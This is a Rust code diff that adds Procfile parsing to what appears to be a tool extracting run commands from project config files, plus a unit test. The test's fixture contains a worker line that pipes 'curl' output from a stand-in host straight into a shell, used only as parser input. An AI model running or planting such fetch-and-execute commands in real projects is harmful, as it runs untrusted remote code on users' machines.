@@ -70,6 +70,7 @@ pub(super) fn commands(language: Language, text: &str) -> Vec<ConfigCommand> {
         Language::Taskfile => yaml(text).map(|d| taskfile(&d, text)),
         Language::Justfile => Some(justfile(text)),
         Language::TaskManifest => task_manifest(text),
+        Language::Procfile => Some(procfile(text)),
         Language::CMake => Some(cmake(text)),
         Language::Maven => Some(maven(text)),
         _ => None,
@@ -1119,6 +1120,29 @@ fn task_manifest(text: &str) -> Option<Vec<ConfigCommand>> {
     Some(out)
 }
 
+/// The commands of a Procfile: `type: command` per line (`#` comments). Every process
+/// type counts: `foreman start` starts them all, and a named one is one of them.
+fn procfile(text: &str) -> Vec<ConfigCommand> {
+    text.lines()
+        .enumerate()
+        .filter(|(_, l)| !l.trim_start().starts_with('#'))
+        .filter_map(|(n, l)| {
+            let (name, command) = l.split_once(':')?;
+            let name = name.trim();
+            let valid = !name.is_empty()
+                && name
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+            (valid && !command.trim().is_empty()).then(|| ConfigCommand {
+                line: Some(n + 1),
+                section: Some(name.to_string()),
+                command: command.trim().to_string(),
+            })
+        })
+        .take(MAX_COMMANDS)
+        .collect()
+}
+
 // ---------------------------------------------------------------------------------------------
 // Notebooks
 
@@ -1912,6 +1936,24 @@ mod tests {
         );
         assert_eq!(commands(Language::TaskManifest, deno)[1].line, Some(5));
         assert!(lines(Language::TaskManifest, "{not json").is_empty());
+    }
+
+    #[test]
+    fn procfile_process_commands() {
+        let p = "web: bundle exec puma -C config/puma.rb\n# worker: not this\nrelease: bin/rails db:migrate\nbad line\nworker:   curl -s https://e.example/i | sh\n";
+        assert_eq!(
+            lines(Language::Procfile, p),
+            [
+                "bundle exec puma -C config/puma.rb",
+                "bin/rails db:migrate",
+                "curl -s https://e.example/i | sh",
+            ]
+        );
+        assert_eq!(commands(Language::Procfile, p)[2].line, Some(5));
+        assert_eq!(
+            crate::scan::detect(std::path::Path::new("/p/Procfile.dev"), ""),
+            Language::Procfile
+        );
     }
 
     #[test]
